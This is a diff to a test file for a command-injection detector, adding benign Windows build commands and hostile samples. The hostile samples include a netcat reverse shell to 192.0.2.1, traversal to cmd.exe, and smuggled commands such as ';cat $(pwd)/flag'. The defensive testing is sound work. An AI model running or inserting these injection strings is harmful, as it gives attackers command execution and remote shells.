@@ -18,6 +18,8 @@ test.each([
   '`ftp` or `file`, which nobody names',
   'If ``x`` is installed, ``y`` returns a ``Z`` object',
   'qemu --image="$(pwd)/server.img" --data=$(pwd)/user-data',
+  '.\\gradlew.bat build',
+  './build.sh (on Unix)\n.\\build.bat (on Windows)',
 ])('what scripts, schedules and sources hold is no command: %s', (text) => {
   expect(foundIn(commandInjection, jsonBody({ readme: text, lines: 3, author: 'ann', channel: 'dev' }))).toEqual([]);
 });
@@ -29,3 +31,14 @@ test.each(['a$(pwd)', '$(pwd)', '$(pwd -P)/a', '$(id)/a', ';cat $(pwd)/flag', '$
     expect(foundIn(commandInjection, body)).not.toEqual([]);
   },
 );
+
+test.each([
+  '.\\cmd.exe /c dir',
+  '..\\..\\windows\\system32\\cmd.exe /c dir',
+  'a;.\\x.bat',
+  '.\\nc.exe -e cmd 192.0.2.1 9',
+])('a program of Windows by the way to it is one: %s', (text) => {
+  expect(foundIn(commandInjection, jsonBody({ readme: text, lines: 3, author: 'ann', channel: 'dev' }))).not.toEqual(
+    [],
+  );
+});
